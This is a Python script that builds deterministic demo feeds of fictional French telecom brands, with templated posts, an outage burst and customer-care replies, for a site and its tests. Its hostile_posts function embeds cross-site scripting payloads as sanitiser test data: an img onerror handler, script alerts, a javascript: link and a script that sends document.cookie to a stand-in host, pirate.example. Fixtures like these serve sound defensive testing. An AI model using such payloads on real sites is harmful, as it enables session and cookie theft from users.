"""Write the bundled demo feeds of the fictional telecom sector, deterministically.

A fresh clone must build a meaningful site offline, so the demo data ships as static feed
files (in `generator/data/demo/feeds/`, installed with the package); this script, kept out
of the package with `cast.py` and `texts.py` beside it, is how they were made and how to remake
them byte for byte, from the repository root:

    python tools/demo/make_feeds.py

Standard library only, seeded random, no network. Besides the feeds it writes
`generator/data/demo/labels.csv` (the intended label of every post, for evaluating the
analysers) and `tests/fixtures/demo_truth.yml` (the ground truth the tests and the lead rely on).
Tests import it as `make_feeds` (tests/conftest.py puts this folder on `sys.path`).
"""

from __future__ import annotations

import argparse
import calendar
import csv
import html
import io
import json
import random
import re
import unicodedata
from collections import Counter
from dataclasses import dataclass, field
from datetime import UTC, date, datetime, timedelta
from email.utils import format_datetime
from pathlib import Path
from xml.sax.saxutils import escape, quoteattr
from zoneinfo import ZoneInfo

import care_threads  # beside this script: the customer-care threads
import cast  # beside this script: the hand-written posts
import texts  # beside this script: the templated wording

PARIS = ZoneInfo("Europe/Paris")
SEED = "observatoire-demo-2026"
MONTHS = ("2026-04", "2026-05", "2026-06", "2026-07", "2026-08", "2026-09", "2026-10")
CRISIS_BRAND = "fibralis"
CRISIS_START = date(2026, 8, 11)
CRISIS_END = date(2026, 8, 15)
HERE = Path(__file__).resolve().parent
REPO_ROOT = HERE.parents[1]
DEMO_DIR = REPO_ROOT / "generator" / "data" / "demo"  # package data, read by observatoire.yml
FEEDS_DIR = DEMO_DIR / "feeds"
LABELS_PATH = DEMO_DIR / "labels.csv"
TRUTH_PATH = REPO_ROOT / "tests" / "fixtures" / "demo_truth.yml"


@dataclass(frozen=True)
class BrandInfo:
    slug: str
    name: str
    aliases: tuple[str, ...]
    staff: str
    spellings: tuple[str, ...]  # how one-off authors write the name
    handle: str | None  # social handle, when the brand has one
    products: tuple[str, ...]
    english: str
    mix: tuple[int, int, int]  # positive / neutral / negative weights of ordinary posts


BRANDS: dict[str, BrandInfo] = {
    b.slug: b
    for b in (
        BrandInfo(
            "orbis",
            "Orbis Télécom",
            ("Orbis", "Orbis Télécom", "@OrbisTelecom"),
            "Orbis_Care",
            ("Orbis", "Orbis", "Orbis Télécom"),
            "@OrbisTelecom",
            ("la box Orbis Max", "le forfait Orbis Essentiel"),
            "Orbis Telecom",
            (5, 3, 3),
        ),
        BrandInfo(
            "fibralis",
            "Fibralis",
            ("Fibralis", "@Fibralis"),
            "Fibralis_Assistance",
            ("Fibralis",),
            "@Fibralis",
            ("la box Fibralis Ultra", "l'offre Fibralis Fibre Max"),
            "Fibralis",
            (4, 3, 4),
        ),
        BrandInfo(
            "nuvo",
            "Nuvo Mobile",
            ("Nuvo", "Nuvo Mobile"),
            "Nuvo_Support",
            ("Nuvo", "Nuvo", "Nuvo Mobile"),
            None,
            ("le forfait Nuvo Flex", "la box Nuvo Home"),
            "Nuvo Mobile",
            (5, 3, 3),
        ),
        BrandInfo(
            "celesta",
            "Célesta",
            ("Célesta", "Celesta"),
            "Celesta_Service",
            ("Célesta", "Célesta", "Celesta"),
            None,
            ("la box Célesta Home", "le forfait Célesta Duo"),
            "Celesta",
            (6, 3, 2),
        ),
    )
}


@dataclass(frozen=True)
class SourceInfo:
    key: str
    file: str
    fmt: str  # rss | atom
    name: str
    kind: str
    language: str
    audience: int
    link: str
    description: str
    name_authors: bool = False


SOURCES: dict[str, SourceInfo] = {
    s.key: s
    for s in (
        SourceInfo(
            "forum-orbis",
            "forum-orbis.xml",
            "rss",
            "Communauté Orbis",
            "forum",
            "fr",
            3000,
            "https://forum.orbis.example/",
            "Le forum d'entraide des abonnés Orbis Télécom",
        ),
        SourceInfo(
            "forum-conso",
            "forum-consotelecom.atom",
            "atom",
            "ConsoTélécom — le forum",
            "forum",
            "fr",
            8000,
            "https://forum.consotelecom.example/",
            "Le forum indépendant des abonnés box et mobile",
        ),
        SourceInfo(
            "blog",
            "blog-des-reseaux.atom",
            "atom",
            "Le Blog des Réseaux",
            "blog",
            "fr",
            12000,
            "https://blogdesreseaux.example/",
            "Tests, mesures et décryptages des réseaux fixes et mobiles",
        ),
        SourceInfo(
            "news-fr",
            "actu-telecoms.xml",
            "rss",
            "Actu Télécoms",
            "news",
            "fr",
            50000,
            "https://www.actu-telecoms.example/",
            "L'actualité des opérateurs, des réseaux et des usages",
            True,
        ),
        SourceInfo(
            "news-en",
            "telecom-wire-europe.xml",
            "rss",
            "Telecom Wire Europe",
            "news",
            "en",
            40000,
            "https://www.telecomwire.example/",
            "European telecoms news in English",
            True,
        ),
        SourceInfo(
            "social",
            "piaf-telecoms.xml",
            "rss",
            "Piaf.social — #télécoms",
            "social",
            "fr",
            5000,
            "https://piaf.example/tags/telecoms",
            "Messages publics de l'instance Piaf.social sur les télécoms",
        ),
        SourceInfo(
            "reddit",
            "rezo-forfaits-et-box.atom",
            "atom",
            "Rezo — r/ForfaitsEtBox",
            "social",
            "fr",
            6000,
            "https://www.rezo.example/r/ForfaitsEtBox/",
            "La communauté des forfaits mobiles et des box",
        ),
        SourceInfo(
            "review",
            "avis-operateurs.xml",
            "rss",
            "AvisOpérateurs",
            "review",
            "fr",
            4000,
            "https://avis-operateurs.example/",
            "Les avis clients vérifiés sur les opérateurs",
        ),
        SourceInfo(
            "video",
            "techtube-telecoms.atom",
            "atom",
            "TechTube — chaînes télécoms",
            "video",
            "fr",
            20000,
            "https://techtube.example/",
            "Vidéos des chaînes tech et conso sur les opérateurs",
        ),
    )
}

# Where ordinary posts of each brand appear (the Orbis support forum only hosts Orbis).
SOURCE_WEIGHTS = {
    "orbis": {"forum-orbis": 4, "forum-conso": 2, "social": 3, "reddit": 2, "review": 2},
    "other": {"forum-conso": 4, "social": 3, "reddit": 2, "review": 2},
}
THEME_WEIGHTS = {
    "reseau": 3,
    "service-client": 2,
    "facturation": 2,
    "offre": 2,
    "boutique-livraison": 2,
}
SENTIMENTS = ("positive", "neutral", "negative")


@dataclass
class Post:
    """One post as it will be written, with the label it was written to carry."""

    source: str
    author: str
    when: datetime | None
    title: str
    text: str
    brands: tuple[str, ...]
    sentiment: str
    themes: tuple[str, ...] = ()
    language: str = "fr"
    recommends: bool = False
    advises_against: bool = False
    intends_to_leave: bool = False
    sponsored: bool = False
    is_reply: bool = False
    parent: Post | None = None
    role: str = "one-off"
    html: str | None = None  # explicit HTML body; otherwise paragraphs built from text
    hostile: bool = False
    comments: int = 0
    views: int = 0
    rating: int | None = None
    stars: tuple[int, float] | None = None  # video star rating (count, average)
    guid: str = ""
    url: str = ""
    num: int = 0
    extra: dict[str, str] = field(default_factory=dict)
    care: bool = False  # a post of the care threads (care_threads.py): ids of its own

    @property
    def body_html(self) -> str:
        if self.html is not None:
            return self.html
        return "".join(f"<p>{escape(p)}</p>" for p in self.text.split("\n\n"))


# --------------------------------------------------------------------------- helpers


def fold(text: str) -> str:
    """Lower-case and strip accents, as brand matching does."""
    decomposed = unicodedata.normalize("NFKD", text)
    return "".join(c for c in decomposed if not unicodedata.combining(c)).casefold()


def slugify(text: str, limit: int = 60) -> str:
    slug = re.sub(r"[^a-z0-9]+", "-", fold(text)).strip("-")
    return slug[:limit].rstrip("-") or "message"


def plain_text(markup: str) -> str:
    """Visible text of an HTML fragment (script/style dropped), for the self-checks."""
    markup = re.sub(r"<(script|style)\b.*?</\1>", " ", markup, flags=re.S | re.I)
    return html.unescape(re.sub(r"<[^>]+>", " ", markup))


_ALIAS_PATTERNS = {
    slug: [re.compile(r"(?<!\w)" + re.escape(fold(a)) + r"(?!\w)") for a in b.aliases]
    for slug, b in BRANDS.items()
}


def brands_in(text: str) -> tuple[str, ...]:
    folded = fold(text)
    return tuple(s for s, pats in _ALIAS_PATTERNS.items() if any(p.search(folded) for p in pats))


def parse_when(stamp: str) -> datetime:
    return datetime.strptime(stamp, "%Y-%m-%d %H:%M").replace(tzinfo=PARIS)


def month_of(when: datetime) -> str:
    return when.astimezone(PARIS).strftime("%Y-%m")


def days_of(month: str) -> list[date]:
    year, mon = (int(x) for x in month.split("-"))
    return [date(year, mon, d) for d in range(1, calendar.monthrange(year, mon)[1] + 1)]


def at(day: date, rng: random.Random) -> datetime:
    hour = rng.choices(range(7, 24), weights=[2, 3, 3, 3, 3, 4, 4, 3, 3, 3, 3, 4, 5, 5, 5, 4, 2])[0]
    return datetime(day.year, day.month, day.day, hour, rng.randrange(60), tzinfo=PARIS)


def weighted(rng: random.Random, options: dict[str, int]) -> str:
    keys = list(options)
    return rng.choices(keys, weights=[options[k] for k in keys])[0]


def in_crisis(day: date) -> bool:
    return CRISIS_START <= day <= CRISIS_END


class Calendar:
    """Spreads ordinary posts so that no brand-day looks like a spike outside the crisis."""

    def __init__(self) -> None:
        self.total: Counter[tuple[str, date]] = Counter()
        self.negative: Counter[tuple[str, date]] = Counter()

    def register(self, post: Post) -> None:
        if post.when is None:
            return
        day = post.when.date()
        for brand in post.brands:
            self.total[(brand, day)] += 1
            if post.sentiment == "negative":
                self.negative[(brand, day)] += 1

    def pick(self, rng: random.Random, month: str, brands: tuple[str, ...], sentiment: str) -> date:
        days = days_of(month)
        for _ in range(500):
            day = rng.choice(days)
            if CRISIS_BRAND in brands and CRISIS_START <= day <= CRISIS_END + timedelta(days=1):
                continue
            if any(self.total[(b, day)] >= 3 for b in brands):
                continue
            if sentiment == "negative" and any(self.negative[(b, day)] >= 2 for b in brands):
                continue
            return day
        raise RuntimeError(f"no free day in {month} for {brands}")


class Names:
    """Unique one-off pseudonyms that never collide with the recurring cast."""

    def __init__(self, rng: random.Random, reserved: set[str]) -> None:
        self.rng = rng
        self.used = set(reserved)

    def new(self) -> str:
        for _ in range(1000):
            name = self.rng.choice(texts.NAME_STEMS) + self.rng.choice(texts.NAME_TAILS)
            if name not in self.used:
                self.used.add(name)
                return name
        raise RuntimeError("ran out of pseudonyms")


def slot_values(brand: BrandInfo, rng: random.Random, spelling: str) -> dict[str, object]:
    """Values for the template placeholders, shared by a post's title and text."""
    product = rng.choice(brand.products)
    price = rng.choice([9.99, 12.99, 14.99, 15.99, 19.99, 24.99, 29.99, 34.99, 39.99])
    return {
        "b": spelling,
        "B": spelling,
        "product": product,
        "Product": product[0].upper() + product[1:],
        "city": rng.choice(texts.CITIES),
        "n": rng.choice([300, 400, 500, 700, 800, 900, 940, 1000]),
        "small": rng.choice([3, 5, 8, 12, 15, 20, 25]),
        "price": f"{price:.2f}".replace(".", ","),
        "big_price": f"{price + rng.choice([10, 15, 20, 27, 35]):.2f}".replace(".", ","),
        "go": rng.choice([20, 50, 80, 100, 130, 150, 200]),
        "go2": rng.choice([40, 60, 120, 250]),
        "wait": rng.choice([35, 40, 45, 50, 55, 70, 90]),
    }


_PROPER_NOUNS = {fold(s) for b in BRANDS.values() for s in b.spellings}


def join_opener(opener: str, core: str) -> str:
    """French: no capital after a colon or a comma, except for proper nouns (brands)."""
    if opener.endswith((": ", ", ")) and core[:1].isupper():
        first = fold(core.split(" ", 1)[0]).strip(",.:!?")
        if first not in _PROPER_NOUNS:
            core = core[0].lower() + core[1:]
    return opener + core


def add_closer(text: str, closer: str) -> str:
    """Append a closing remark unless the text already ends the same way."""
    stripped = closer.strip()
    if (
        not stripped
        or stripped in text
        or (not stripped[0].isalnum() and not text[-1].isalnum() and text[-1] not in ".!?…")
    ):
        return text
    return text + closer


# --------------------------------------------------------------------------- post builders


def compose(rng: random.Random, brand: BrandInfo, theme: str, sentiment: str, style: str) -> Post:
    """One ordinary post by a one-time author (source, author and date are set by the caller)."""
    spelling = rng.choice(brand.spellings)
    titles, template = rng.choice(texts.CORES[theme][sentiment])
    values = slot_values(brand, rng, spelling)
    core = template.format(**values)
    text = join_opener(rng.choice(texts.OPENERS[sentiment]), core)
    post = Post(
        source="",
        author="",
        when=None,
        title="",
        text="",
        brands=(brand.slug,),
        sentiment=sentiment,
        themes=(theme,),
    )
    cue = rng.random()
    if sentiment == "positive" and cue < 0.12:
        text += rng.choice(texts.RECOMMEND_CUES).format(**values)
        post.recommends = True
    elif sentiment == "negative" and cue < 0.14:
        text += rng.choice(texts.ADVISE_AGAINST_CUES).format(**values)
        post.advises_against = True
    elif sentiment == "negative" and cue < 0.28:
        text += rng.choice(texts.LEAVE_CUES)
        post.intends_to_leave = True
    else:
        text = add_closer(text, rng.choice(texts.CLOSERS[sentiment]))
    if style == "social":
        if brand.handle and rng.random() < 0.35:
            text = f"{brand.handle} {text}"
        tags = rng.sample(texts.HASHTAGS[theme], k=rng.choice([1, 1, 2]))
        text = f"{text} {' '.join(tags)}"
    else:
        post.title = rng.choice(titles).format(**values)
    if style == "review":
        post.rating = {
            "positive": rng.choice([4, 5, 5]),
            "neutral": 3,
            "negative": rng.choice([1, 1, 2]),
        }[sentiment]
        if not post.title:
            post.title = "Mon avis"
    post.text = text
    return post


def scripted(author: str, item: cast.Scripted, role: str) -> Post:
    source, stamp, title, text, brands, sentiment, themes, flags = item
    rating = next((int(c) for c in flags if c.isdigit()), None)
    return Post(
        source=source,
        author=author,
        when=parse_when(stamp),
        title=title,
        text=text,
        brands=brands,
        sentiment=sentiment,
        themes=themes,
        role=role,
        recommends="R" in flags,
        advises_against="A" in flags,
        intends_to_leave="L" in flags,
        sponsored="S" in flags,
        is_reply="P" in flags,
        rating=rating,
    )


CRISIS_STAFF_REPLY = (
    "Bonjour {user}, nos équipes sont mobilisées jour et nuit pour rétablir le service. Toutes "
    "nos excuses pour la gêne occasionnée : un dédommagement sera proposé à chaque client "
    "concerné. — L'équipe {b}"
)
PERIOD_END = datetime(2026, 10, 31, 23, 0, tzinfo=PARIS)


def staff_reply(rng: random.Random, parent: Post, brand: BrandInfo) -> Post:
    """A helpful answer by the brand's own account (positive; never an ambassador)."""
    assert parent.when is not None
    crisis = parent.role == "crisis"
    theme = parent.themes[0] if parent.themes else "generic"
    options = texts.STAFF_REPLIES["generic"] + texts.STAFF_REPLIES.get(theme, [])
    template = CRISIS_STAFF_REPLY if crisis else rng.choice(options)
    text = template.format(user=parent.author, b=brand.spellings[0])
    when = parent.when + timedelta(hours=rng.randint(1, 20), minutes=rng.randrange(60))
    if when.hour < 8:  # the support team works 8:00-20:00
        when = when.replace(hour=8 + rng.randrange(2))
    elif when.hour >= 20:
        when = (when + timedelta(days=1)).replace(hour=8 + rng.randrange(3))
    if when > PERIOD_END:
        when = parent.when + timedelta(minutes=25)
    title = parent.title if parent.title.startswith("Re: ") else f"Re: {parent.title}"
    return Post(
        source=parent.source,
        author=brand.staff,
        when=when,
        title=title,
        text=text,
        brands=(brand.slug,),
        sentiment="neutral" if crisis else "positive",
        themes=("service-client",),
        is_reply=True,
        parent=parent,
        role="staff",
    )


# --------------------------------------------------------------------------- customer care

# How each brand's staff answer (issue 19). Applied to every staff reply of the demo with a
# random generator of its own, so no other post moves:
# - Orbis, fast: acknowledges within the hour in business hours (8:00-19:00, 8 to 55 minutes
#   after the post); a post of the evening or the night is answered the next morning, 8:05 to
#   8:55, so most requests are answered the same day or within 24 hours;
# - Fibralis, slow: first reply 26 to 72 hours later (about one to three days), in business
#   hours, and several requests never answered (the August crisis included);
# - Nuvo, its community answers: peers answer most questions first (care_threads.py), the brand
#   rarely, and late: 40 to 110 hours;
# - Célesta, in between: 3 to 30 hours.
# A reply that would fall after the demo's period is posted at its end (PERIOD_END).
CARE_PROFILES: dict[str, tuple[str, float, float]] = {
    "orbis": ("fast", 8 / 60, 55 / 60),
    "fibralis": ("slow", 26.0, 72.0),
    "nuvo": ("community", 40.0, 110.0),
    "celesta": ("between", 3.0, 30.0),
}
BUSINESS_HOURS = (8, 20)  # the support teams work 8:00-20:00
CARE_MONTH_CLOSE = 1  # a month's care figures read the posts up to the end of the next month
CARE_CONVERT_DAYS = 30  # a care-driven convert: next post about the brand within 30 days
CARE_TARGETS = (1.0, 24.0, 48.0)  # acknowledge, answer, extended answer (hours)


def care_reply_time(rng: random.Random, brand: str, asked: datetime) -> datetime:
    """When the brand's staff answer a post made at `asked` (Paris time), per its profile."""
    kind, low, high = CARE_PROFILES[brand]
    if kind == "fast":
        if 8 <= asked.hour < 19:
            return asked + timedelta(minutes=rng.randint(8, 55))
        morning = asked if asked.hour < 8 else asked + timedelta(days=1)
        return morning.replace(hour=8, minute=rng.randint(5, 55))
    when = asked + timedelta(minutes=rng.randint(int(low * 60), int(high * 60)))
    if when.hour < BUSINESS_HOURS[0]:
        when = when.replace(hour=8 + rng.randrange(2))
    elif when.hour >= BUSINESS_HOURS[1]:
        when = (when + timedelta(days=1)).replace(hour=8 + rng.randrange(3))
    return min(when, PERIOD_END)


def retime_staff_replies(posts: list[Post]) -> None:
    """Every staff reply moved to the time its brand's care profile says (in place)."""
    rng = random.Random(f"{SEED}-care")
    for post in posts:
        if post.role == "staff" and post.parent is not None and post.parent.when is not None:
            post.when = care_reply_time(rng, post.brands[0], post.parent.when)


def care_posts(posts: list[Post], reserved: set[str]) -> list[Post]:
    """The posts of care_threads.py (starters, replies and follow-ups), labelled."""
    staff = {f"@{slug}": brand.staff for slug, brand in BRANDS.items()}
    out: list[Post] = []

    def new(
        source: str,
        author: str,
        when: datetime,
        title: str,
        text: str,
        sentiment: str,
        themes: tuple[str, ...],
        parent: Post | None,
    ) -> Post:
        visible = f"{title} {text}"
        post = Post(
            source=source,
            author=author,
            when=when,
            title=title,
            text=text,
            brands=brands_in(visible),
            sentiment=sentiment,
            themes=themes if brands_in(visible) else (),
            is_reply=parent is not None,
            parent=parent,
            role="staff" if author in staff.values() else "care",
            care=True,
        )
        if source == "review":
            post.rating = {"positive": 5, "neutral": 3, "negative": 1}[sentiment]
        return post

    authors = {p.author for p in posts}
    for source, title, starter, replies in care_threads.THREADS:
        author, stamp, text, sentiment, themes = starter
        if author in reserved or author in authors:
            raise AssertionError(f"care author {author!r} already posts in the demo")
        started = parse_when(stamp)
        head = new(
            source,
            author,
            started,
            "" if source == "social" else title,
            text,
            sentiment,
            themes,
            None,
        )
        out.append(head)
        for who, delay, words, feeling in replies:
            when = (
                parse_when(delay) if isinstance(delay, str) else started + timedelta(minutes=delay)
            )
            name = staff.get(who, who)
            out.append(
                new(
                    source,
                    name,
                    when,
                    f"Re: {title}",
                    words,
                    feeling,
                    ("service-client",) if name in staff.values() else (),
                    head,
                )
            )
    for source, author, stamp, text, sentiment, themes in care_threads.FOLLOW_UPS:
        out.append(new(source, author, parse_when(stamp), "", text, sentiment, themes, None))
    return out


def crisis_posts(rng: random.Random, names: Names) -> list[Post]:
    """The Fibralis outage: a burst of angry posts from 11 to 15 August 2026."""
    per_day = {11: 8, 12: 15, 13: 13, 14: 9, 15: 5}
    sources = {"social": 10, "reddit": 4, "forum-conso": 4, "review": 1}
    posts = []
    for day_num, count in per_day.items():
        phase = "start" if day_num == 11 else "middle" if day_num <= 13 else "end"
        for _ in range(count):
            day = date(2026, 8, day_num)
            hour = rng.randint(8, 23) if day_num > 11 else rng.randint(8, 21)
            when = datetime(2026, 8, day_num, hour, rng.randrange(60), tzinfo=PARIS)
            values = {
                "city": rng.choice(texts.CITIES),
                "d": day_num - 10,
                "hours": (day_num - 11) * 24 + rng.choice([6, 10, 14]),
            }
            lead = rng.choice(texts.CRISIS_LEADS[phase])
            if lead.startswith("Même le 15 août") and day != date(2026, 8, 15):
                lead = texts.CRISIS_LEADS[phase][0]
            text = " ".join(
                [
                    lead.format(**values),
                    rng.choice(texts.CRISIS_DETAILS),
                    rng.choice(texts.CRISIS_REACTIONS),
                ]
            )
            source = weighted(rng, sources)
            post = Post(
                source=source,
                author=names.new(),
                when=when,
                title="",
                text=text,
                brands=(CRISIS_BRAND,),
                sentiment="negative",
                themes=("reseau",),
                role="crisis",
            )
            if rng.random() < 0.15:
                post.text += rng.choice(texts.LEAVE_CUES)
                post.intends_to_leave = True
            if source == "social":
                tag = rng.choice(texts.CRISIS_TAGS)
                post.text += f" {tag}" if tag else ""
            else:
                post.title = rng.choice(texts.CRISIS_TITLES).format(**values)
            if source == "review":
                post.rating = 1
            post.comments = rng.randint(15, 70)
            posts.append(post)
    return posts


def news_posts(rng: random.Random, cal: Calendar) -> list[Post]:
    """Neutral news: every brand gets one French story a month, two brands an English one."""
    posts: list[Post] = []
    fr_stories = {slug: rng.sample(texts.NEWS_FR, k=len(texts.NEWS_FR)) for slug in BRANDS}
    en_stories = {slug: rng.sample(texts.NEWS_EN, k=len(texts.NEWS_EN)) for slug in BRANDS}
    en_brands = [slug for _ in range(4) for slug in rng.sample(list(BRANDS), k=len(BRANDS))]
    for index, month in enumerate(MONTHS):
        for slug, brand in BRANDS.items():
            title_t, text_t, theme = fr_stories[slug][index]
            values = news_values(rng, brand.name)
            day = cal.pick(rng, month, (slug,), "neutral")
            when = datetime(
                day.year,
                day.month,
                day.day,
                rng.choice([7, 8, 9, 11, 14, 17]),
                rng.choice([0, 15, 30, 45]),
                tzinfo=PARIS,
            )
            post = Post(
                source="news-fr",
                author=rng.choice(texts.JOURNALISTS_FR),
                when=when,
                title=title_t.format(**values),
                text=text_t.format(**values),
                brands=(slug,),
                sentiment="neutral",
                themes=(theme,),
                role="news",
            )
            cal.register(post)
            posts.append(post)
        for slug in en_brands[2 * index : 2 * index + 2]:
            brand = BRANDS[slug]
            title_t, text_t, theme = en_stories[slug].pop()
            values = news_values(rng, brand.english)
            day = cal.pick(rng, month, (slug,), "neutral")
            when = datetime(
                day.year,
                day.month,
                day.day,
                rng.choice([6, 9, 13, 16]),
                rng.choice([0, 20, 40]),
                tzinfo=PARIS,
            )
            post = Post(
                source="news-en",
                author=rng.choice(texts.JOURNALISTS_EN),
                when=when,
                title=title_t.format(**values),
                text=text_t.format(**values),
                brands=(slug,),
                sentiment="neutral",
                themes=(theme,),
                language="en",
                role="news",
            )
            cal.register(post)
            posts.append(post)
    for stamp, title, text in cast.NEWS_FR_OFF_TOPIC:
        posts.append(
            Post(
                source="news-fr",
                author=rng.choice(texts.JOURNALISTS_FR),
                when=parse_when(stamp),
                title=title,
                text=text,
                brands=(),
                sentiment="neutral",
                role="off-topic",
            )
        )
    for stamp, title, text, brands, sentiment, themes in cast.NEWS_FR_EXTRA:
        posts.append(
            Post(
                source="news-fr",
                author=rng.choice(texts.JOURNALISTS_FR),
                when=parse_when(stamp),
                title=title,
                text=text,
                brands=brands,
                sentiment=sentiment,
                themes=themes,
                role="news",
            )
        )
    for stamp, title, text, brands, sentiment in cast.NEWS_EN_EXTRA:
        posts.append(
            Post(
                source="news-en",
                author=rng.choice(texts.JOURNALISTS_EN),
                when=parse_when(stamp),
                title=title,
                text=text,
                brands=brands,
                sentiment=sentiment,
                language="en",
                role="news" if brands else "off-topic",
            )
        )
    return posts


def news_values(rng: random.Random, name: str) -> dict[str, object]:
    pct0 = rng.randint(55, 80)
    return {
        "B": name,
        "E": name,
        "k": rng.choice([35, 48, 60, 75, 90, 120, 150, 210]),
        "price": rng.choice(["9,99", "12,99", "14,99", "19,99"]),
        "go": rng.choice([60, 80, 100]),
        "city": rng.choice(texts.CITIES),
        "delta": rng.choice([1, 2, 3]),
        "pct": pct0 + rng.randint(2, 6),
        "pct0": pct0,
        "pct_small": rng.randint(1, 6),
        "ca": rng.choice([410, 530, 780, 1200, 1450]),
        "weekday": rng.choice(["Monday", "Tuesday", "Wednesday", "Thursday"]),
    }


def hostile_posts() -> list[Post]:
    """Posts whose HTML must be neutralised by the sanitiser before anything is rendered."""
    forum = Post(
        source="forum-orbis",
        author="curieux_du_net",
        when=parse_when("2026-05-05 21:14"),
        title="Capture de mon test de débit Orbis",
        text="",
        brands=("orbis",),
        sentiment="neutral",
        themes=("reseau",),
        role="one-off",
        hostile=True,
        html="<p>Bonjour, voici la capture de mon test de débit Orbis :</p>"
        "<img src=x onerror=alert(1)>"
        "<p>En Wi-Fi j'ai 300 Mb/s et en Ethernet 900 Mb/s. C'est l'écart habituel ?</p>"
        "<script>alert(1)</script>",
    )
    review = Post(
        source="review",
        author="mel_en_velo",
        when=parse_when("2026-08-27 19:48"),
        title="Très bonne expérience",
        text="",
        brands=("celesta",),
        sentiment="positive",
        themes=("facturation",),
        role="one-off",
        hostile=True,
        rating=5,
        html="<p>Célesta m'a remboursé en deux jours, service parfait et très aimable.</p>"
        '<p><a href="javascript:alert(1)">Voir ma facture</a></p>'
        "<script>document.location='https://pirate.example/?c='+document.cookie</script>",
    )
    return [forum, review]


def build_posts() -> list[Post]:
    """Every post of the demo, with its intended label (source, date and text fixed)."""
    rng = random.Random(SEED)
    cal = Calendar()
    reserved = {*cast.RECURRING, cast.EXCLUDED_AUTHOR, *(b.staff for b in BRANDS.values())}
    names = Names(random.Random(f"{SEED}-names"), reserved)
    posts: list[Post] = []

    def add(post: Post) -> Post:
        posts.append(post)
        cal.register(post)
        return post

    # The recurring cast first, so ordinary posts are spread around their fixed dates.
    staff_rng = random.Random(f"{SEED}-staff")
    for author, spec in cast.RECURRING.items():
        for item in spec["posts"]:  # type: ignore[union-attr]
            add(scripted(author, item, str(spec["klass"])))
    for item in cast.EXCLUDED_POSTS:
        add(scripted(cast.EXCLUDED_AUTHOR, item, "excluded"))
    for author, item in cast.COMPARISONS:
        names.used.add(author)
        add(scripted(author, item, "one-off"))
    for author, item in cast.THREAD_STARTERS:
        names.used.add(author)
        add(scripted(author, item, "one-off"))
    for author, item in cast.ENGLISH_POSTS:
        names.used.add(author)
        post = add(scripted(author, item, "one-off"))
        post.language = "en"
    for author, item in cast.OFF_TOPIC:
        names.used.add(author)
        add(scripted(author, item, "off-topic"))
    for post in hostile_posts():
        names.used.add(post.author)
        add(post)
    # "Re: <title>" replies of the cast belong to the thread of that title.
    for post in posts:
        if post.is_reply and post.parent is None and post.title.startswith("Re: "):
            post.parent = next(
                p for p in posts if p.source == post.source and p.title == post.title[4:]
            )
    # Staff answer the detractors' forum threads.
    for post in list(posts):
        if (
            post.source in ("forum-orbis", "forum-conso")
            and post.role in {"detractor", "convert"}
            and post.sentiment == "negative"
            and not post.is_reply
        ):
            add(staff_reply(staff_rng, post, BRANDS[post.brands[0]]))
    hostile_forum = next(p for p in posts if p.hostile and p.source == "forum-orbis")
    add(staff_reply(staff_rng, hostile_forum, BRANDS["orbis"]))

    crisis_rng = random.Random(f"{SEED}-crisis")
    for post in crisis_posts(crisis_rng, names):
        add(post)
        if post.source == "forum-conso" and crisis_rng.random() < 0.6:
            add(staff_reply(staff_rng, post, BRANDS[CRISIS_BRAND]))

    posts += news_posts(random.Random(f"{SEED}-news"), cal)  # registers its own dates
    dup_title, dup_text = cast.DUPLICATE_ARTICLE
    add(
        Post(
            source="news-fr",
            author="Inès Moreau",
            when=parse_when("2026-09-08 09:00"),
            title=dup_title,
            text=dup_text,
            brands=("celesta",),
            sentiment="neutral",
            themes=("reseau",),
            role="duplicate",
        )
    )
    add(
        Post(
            source="blog",
            author="Melanie_BdR",
            when=parse_when("2026-09-08 14:30"),
            title=dup_title,
            text=dup_text,
            brands=("celesta",),
            sentiment="neutral",
            themes=("reseau",),
            role="duplicate",
        )
    )
    for author, stamp, title, body, brands, sentiment, themes in cast.BLOG_POSTS:
        add(
            Post(
                source="blog",
                author=author,
                when=parse_when(stamp),
                title=title,
                text="",
                html=body,
                brands=brands,
                sentiment=sentiment,
                themes=themes,
                hostile="javascript:" in body,
                role="blog" if brands else "off-topic",
            )
        )
    video_rng = random.Random(f"{SEED}-video")
    for author, stamp, title, text, brands, sentiment, themes in cast.VIDEOS:
        add(
            Post(
                source="video",
                author=author,
                when=parse_when(stamp),
                title=title,
                text=text,
                brands=brands,
                sentiment=sentiment,
                themes=themes,
                role="video" if brands else "off-topic",
            )
        )
    for post in posts:
        if post.source == "video":
            post.views = video_rng.randint(2_000, 90_000)
            average = {"positive": 4.7, "neutral": 4.3, "negative": 3.9}[post.sentiment]
            post.stars = (video_rng.randint(40, 900), round(average + video_rng.random() / 4, 2))

    # Ordinary posts by one-time authors, month by month, brand by brand.
    seen = {_visible(p) for p in posts}
    for month in MONTHS:
        for slug, brand in BRANDS.items():
            for _ in range(rng.randint(9, 10)):
                sentiment = rng.choices(SENTIMENTS, weights=brand.mix)[0]
                theme = weighted(rng, THEME_WEIGHTS)
                source = weighted(rng, SOURCE_WEIGHTS["orbis" if slug == "orbis" else "other"])
                style = {"social": "social", "review": "review"}.get(source, "forum")
                post = compose(rng, brand, theme, sentiment, style)
                while _visible(post) in seen:  # a one-time author never repeats a post
                    post = compose(rng, brand, theme, sentiment, style)
                seen.add(_visible(post))
                post.source, post.author = source, names.new()
                post.when = at(cal.pick(rng, month, (slug,), sentiment), rng)
                add(post)
                if source.startswith("forum") and sentiment != "positive" and rng.random() < 0.5:
                    add(staff_reply(staff_rng, post, brand))
    # Undated reviews (the site's feed lost their dates): the collector must flag them.
    undated_rng = random.Random(f"{SEED}-undated")
    for slug, sentiment, theme in (
        ("orbis", "positive", "offre"),
        ("nuvo", "negative", "facturation"),
        ("celesta", "neutral", "boutique-livraison"),
        ("fibralis", "positive", "service-client"),
    ):
        post = compose(undated_rng, BRANDS[slug], theme, sentiment, "review")
        post.source, post.author, post.role = "review", names.new(), "undated"
        add(post)
    # Customer care (issue 19): staff answer as their brand's profile says, and the care
    # threads join the demo last, so the posts above keep their draws.
    retime_staff_replies(posts)
    for post in care_posts(posts, names.used):
        add(post)

    # "Communauté Orbis" is Orbis' own forum (`brand: orbis` in observatoire.yml): every post
    # there is about Orbis, whether it names it or not.
    for post in posts:
        if post.source == "forum-orbis" and "orbis" not in post.brands:
            post.brands = (*post.brands, "orbis")

    engagement_rng = random.Random(f"{SEED}-engagement")
    for post in posts:
        if post.source in ("forum-orbis", "forum-conso", "reddit") and not post.comments:
            post.comments = 0 if post.is_reply else engagement_rng.randint(0, 14)
    _check(posts)
    return posts


def _visible(post: Post) -> str:
    """Title and visible text: what deduplication by content would compare."""
